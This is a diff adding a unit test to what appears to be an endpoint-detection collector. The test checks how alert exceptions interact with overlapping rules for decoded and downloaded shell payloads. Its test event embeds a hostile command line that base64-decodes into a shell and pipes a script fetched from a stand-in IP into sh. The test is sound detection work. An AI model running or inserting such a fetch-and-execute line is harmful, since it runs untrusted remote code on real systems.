@@ -7,13 +7,17 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import bzh.vigie.collector.review.NeverExcepted;
 import bzh.vigie.collector.store.AgentId;
+import bzh.vigie.collector.store.Alerts;
 import bzh.vigie.collector.store.Alerts.Alert;
 import bzh.vigie.collector.store.Alerts.Status;
 import bzh.vigie.collector.store.Reach;
 import bzh.vigie.collector.store.Scope;
 import bzh.vigie.collector.store.Specimens;
+import bzh.vigie.event.Event;
 import bzh.vigie.event.Event.Change;
 import bzh.vigie.event.Item;
+import bzh.vigie.event.Observed;
+import bzh.vigie.event.ProcessKey;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
@@ -67,6 +71,54 @@ final class ExceptionsTest {
             assertEquals("vigie-linux-by-hand", last.rule());
             assertEquals(Status.NEW, last.status());
         }
+    }
+
+    /** One process is one alert of the gravest rule, and what nobody wants to hear from that rule does not hide the next one. */
+    @Test
+    void anExceptionForTheBestRuleLeavesTheNextOne() throws Exception {
+        try (Line line = new Line(folder)) {
+            AgentId pc = line.enrol(1, Line.QUIMPER);
+            String decoded = "vigie-linux-decode-to-shell";
+            line.send(pc, decodesAndFetches(line, "/opt/backup/run"));
+            Alert one = line.alerts().getFirst();
+            assertEquals(1, line.alerts().size());
+            assertEquals(decoded, one.rule());
+            assertEquals(Alerts.Severity.HIGH, one.severity());
+            assertEquals("vigie-linux-download-to-shell", one.evidence().get("also"));
+            assertEquals(List.of("T1140", "T1027", "T1059.004", "T1105"), one.techniques());
+            Reach reach = new Reach(
+                    decoded,
+                    Optional.empty(),
+                    Optional.of("/opt/report/*"),
+                    Optional.empty(),
+                    Optional.empty(),
+                    Optional.of(Line.QUIMPER),
+                    Optional.empty());
+            line.store.change(
+                    s -> s.alertExceptions().add(ALL, false, reach, line.now.plus(Duration.ofDays(1)), ANALYST));
+            line.send(pc, decodesAndFetches(line, "/opt/report/run"));
+            assertEquals(
+                    List.of(decoded + " NEW", decoded + " EXCEPTED", "vigie-linux-download-to-shell NEW"),
+                    line.alerts().stream()
+                            .map(alert -> alert.rule() + " " + alert.status())
+                            .toList());
+        }
+    }
+
+    private static Event decodesAndFetches(Line line, String image) {
+        return new Event.ProcessStarted(
+                line.at(0),
+                "linux.process",
+                new ProcessKey("boot-1", 42, 1),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.known(image),
+                Observed.known(image + " -c 'echo aWQK | base64 -d | sh; curl http://203.0.113.9/x | sh'"),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                false);
     }
 
     /** It holds for what comes after it, and one host's flood fills no store because nobody is told of it. */
